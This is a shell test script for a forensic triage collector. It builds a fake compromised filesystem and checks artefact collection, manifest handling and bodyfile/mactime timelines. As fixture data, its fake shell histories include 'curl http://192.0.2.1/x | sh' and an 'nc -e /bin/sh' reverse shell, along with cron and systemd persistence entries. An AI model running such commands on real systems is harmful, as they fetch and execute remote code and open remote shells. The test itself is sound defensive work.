# Copyright 2026 csirt-collect developers
# SPDX-License-Identifier: Apache-2.0
#
# Artefacts, profiles and the bodyfile on a fixture root built here:
# users with homes, histories, logs, cron and systemd persistence, a FIFO,
# symlink loops, a hard link, a file over --max-file-size, a name with '|'
# and a newline, and a directory of 100,000 small files. Checks the
# archive with stock tar, jq and mactime.
. "$(dirname "$0")/lib.sh"

R="$T/root"
mkdir -p "$R"
mk /etc/passwd "root:x:0:0:root:/root:/bin/bash
alice:x:1000:1000:Alice:/home/alice:/bin/bash
bob:x:1001:1001::/home/bob/:/bin/zsh
svc:x:998:998::/var/lib/svc:/usr/sbin/nologin
ghost:x:997:997::/nonexistent:/usr/sbin/nologin
evil*:x:996:996::/home/*:/bin/sh"
mk /etc/group "root:x:0:"
mk /etc/hosts "127.0.0.1 localhost"
mk /etc/resolv.conf "nameserver 192.0.2.53"
mk /root/.bash_history "curl http://192.0.2.1/x | sh"
mk /home/alice/.bash_history "sudo -i"
mk /home/alice/.ssh/authorized_keys "ssh-ed25519 AAAA attacker"
mk /home/bob/.zsh_history ": 1700000000:0;wget evil"
mk /var/lib/svc/.bash_history "nc -e /bin/sh 192.0.2.1 4444"
mk /var/log/auth.log "Accepted password for root"
mk /var/log/syslog "syslog line"
mk /var/log/syslog.1 "older syslog"
mk /var/log/nginx/access.log "GET /shell.php"
mk /etc/crontab "* * * * * root /tmp/.x"
mk /etc/cron.d/evil "@reboot root /dev/shm/.y"
ln "$R/etc/cron.d/evil" "$R/etc/cron.d/evil-hardlink"
mk /var/spool/cron/crontabs/alice "* * * * * /home/alice/.z"
mk /etc/systemd/system/evil.service "[Service]
ExecStart=/tmp/.x"
mkdir -p "$R/etc/systemd/system/multi-user.target.wants"
ln -s /etc/systemd/system/evil.service \
    "$R/etc/systemd/system/multi-user.target.wants/evil.service"
mk /etc/ld.so.preload "/lib/x.so"
mk /tmp/dropper "#!/bin/sh"
mkfifo "$R/tmp/fifo"
ln -s loop2 "$R/tmp/loop1"
ln -s loop1 "$R/tmp/loop2"
ln -s . "$R/tmp/dirloop"
printf 'a|b\n' >"$R/tmp/we|ird
name"
head -c 2097152 /dev/zero >"$R/tmp/big"
mkdir -p "$R/dev/shm" "$R/var/tmp" "$R/home/alice/many"
mk /dev/shm/.y "payload"
# 100,000 small files, fast (one process).
python3 -c '
import os, sys
d = sys.argv[1]
for i in range(100000):
    with open(os.path.join(d, "f%d" % i), "w") as f:
        f.write("x")
' "$R/home/alice/many"
touch -d "2020-01-02 03:04:05 UTC" "$R/etc/cron.d/evil"
touch -d "2019-05-06 07:08:09 UTC" "$R/home/alice/.bash_history"

start=$(date +%s)
check "triage run exits 0" run_root "$T/o1" --max-file-size 1M
X="$T/o1/x"
echo "# triage run: $(( $(date +%s) - start ))s"
have() { [ -f "$X/files$1" ]; }
for p in /etc/passwd /etc/group /etc/hosts /etc/resolv.conf /etc/crontab \
    /etc/ld.so.preload /var/log/auth.log /var/log/syslog /var/log/syslog.1 \
    /var/log/nginx/access.log /var/spool/cron/crontabs/alice \
    /etc/systemd/system/evil.service /tmp/dropper /dev/shm/.y \
    /home/alice/.ssh/authorized_keys; do
	check "collected $p" have "$p"
done
for p in /root/.bash_history /home/alice/.bash_history \
    /home/bob/.zsh_history /var/lib/svc/.bash_history; do
	check "%%users.homedir%% expanded: $p" have "$p"
done
check "collected content is the original" \
    cmp -s "$X/files/home/alice/.bash_history" "$R/home/alice/.bash_history"
check "a glob in a user name is not expanded" \
    sh -c "! grep -q '\"source\": *\"/home/\\*' '$X/manifest.json'"
check "FIFO not collected" sh -c "! [ -e '$X/files/tmp/fifo' ]"
check "FIFO recorded in errors" sh -c \
    "jq -e '.errors[] | select(.path == \"/tmp/fifo\")' '$X/manifest.json' >/dev/null"
check "symlink loop recorded with its target, not followed" sh -c \
    "! [ -e '$X/files/tmp/loop1' ] && jq -e '.links[] | select(.path == \"/tmp/loop1\" and .target != null)' '$X/manifest.json' >/dev/null"
check "symlinked directory not entered" sh -c "! [ -e '$X/files/tmp/dirloop' ]"
check "a hard link is collected once" sh -c \
    "[ \$(ls '$X/files/etc/cron.d' | wc -l) -eq 1 ]"
check "file over --max-file-size is cut and marked truncated" sh -c \
    "[ \$(stat -c %s '$X/files/tmp/big') -eq 1048576 ] &&
    jq -e '.entries[] | select(.path == \"files/tmp/big\") | .truncated == true' '$X/manifest.json' >/dev/null"
check "many-files directory not collected by triage" \
    sh -c "! [ -e '$X/files/home/alice/many' ]"
check "collection.log names skipped COMMAND count and profile" \
    grep -q 'profile triage:' "$X/collection.log"

B="$X/timeline/bodyfile.txt"
check "bodyfile present" test -s "$B"
check "bodyfile: 11 fields on every line" \
    awk -F'|' 'NF != 11 { bad = 1 } END { exit bad }' "$B"
check "bodyfile lists the 100,000 files" sh -c \
    "[ \$(grep -c '^0|/home/alice/many/f' '$B') -eq 100000 ]"
check "bodyfile escapes | and newline" grep -qF '/tmp/we\x7cird\x0aname' "$B"
check "bodyfile records the FIFO and the loop links" sh -c \
    "grep -q '^0|/tmp/fifo|[0-9]*|prw' '$B' && grep -q '^0|/tmp/loop1|[0-9]*|lrwx' '$B'"
mactime -b "$B" -z UTC -d >"$T/mactime.csv" 2>"$T/mactime.err"
check "mactime -b reads the bodyfile" test $? -eq 0
check "mactime: no complaint" sh -c "! [ -s '$T/mactime.err' ]"
check "mactime shows the touch -d time of /etc/cron.d/evil" sh -c \
    "grep 'Jan 02 2020 03:04:05' '$T/mactime.csv' | grep -q '/etc/cron.d/evil'"
check "mactime shows the touch -d time of alice's history" sh -c \
    "grep 'May 06 2019 07:08:09' '$T/mactime.csv' | grep -q '/home/alice/.bash_history'"

# A comma list of artefacts: only those.
check "artefact list run exits 0" run_root "$T/o2" \
    --profile "LinuxShellHistories, LinuxSudoers"
check "artefact list: histories collected" \
    test -f "$T/o2/x/files/home/bob/.zsh_history"
check "artefact list: nothing else" sh -c "! [ -e '$T/o2/x/files/etc/passwd' ]"
check "artefact list: no DIRECTORY source, no bodyfile" \
    sh -c "! [ -e '$T/o2/x/timeline/bodyfile.txt' ]"

# --artifacts: a profile of our own, and ForensicArtifacts definitions.
cat >"$T/mine.yaml" <<'EOF'
name: MyProfile
doc: test profile
labels: [Profile]
sources:
- type: ARTIFACT_GROUP
  attributes: {names: [MyFiles, SSHAuthorizedKeysFiles]}
- type: DIRECTORY
  attributes: {paths: ['/etc/cron.d']}
---
name: MyFiles
doc: test
sources:
- type: FILE
  attributes: {paths: ['/var/log/**2', '%%users.homedir%%/.*_history']}
- type: COMMAND
  attributes: {cmd: /bin/touch, args: [/tmp/pwned]}
EOF
if [ -n "$FA_DIR" ]; then
	check "--artifacts run exits 0" run_root "$T/o3" --profile MyProfile \
	    --artifacts "$T/mine.yaml" --artifacts "$FA_DIR"
	check "--artifacts: own artefact collected" \
	    test -f "$T/o3/x/files/var/log/nginx/access.log"
	check "--artifacts: FA artefact collected" \
	    test -f "$T/o3/x/files/home/alice/.ssh/authorized_keys"
	check "--artifacts: COMMAND never run" sh -c "! [ -e /tmp/pwned ] && ! [ -e '$R/tmp/pwned' ]"
	check "--artifacts: COMMAND skip logged" \
	    grep -q '1 COMMAND (never run)' "$T/o3/x/collection.log"
	check "--artifacts: own tree in the bodyfile only" sh -c \
	    "grep -q '^0|/etc/cron.d/evil|' '$T/o3/x/timeline/bodyfile.txt' &&
	    ! grep -q '/home/' '$T/o3/x/timeline/bodyfile.txt'"
else
	skip "no ForensicArtifacts definitions (../shared or Debian's forensic-artifacts package)"
fi

# The full profile: the whole tree in the bodyfile, hidden files of homes.
check "full run exits 0" run_root "$T/o4" --profile full
# Archived whole by the artefacts: its MD5 column is filled.
svcmd5=$(md5sum <"$R/var/lib/svc/.bash_history" | cut -d' ' -f1)
check "full: /var/lib/svc in the bodyfile, with its md5" \
    grep -q "^$svcmd5|/var/lib/svc/.bash_history|" "$T/o4/x/timeline/bodyfile.txt"
check "full: each entry once in the bodyfile" sh -c \
    "[ \$(cut -d'|' -f2 '$T/o4/x/timeline/bodyfile.txt' | sort | uniq -d | wc -l) -eq 0 ]"
echo "# total: $(( $(date +%s) - start ))s"
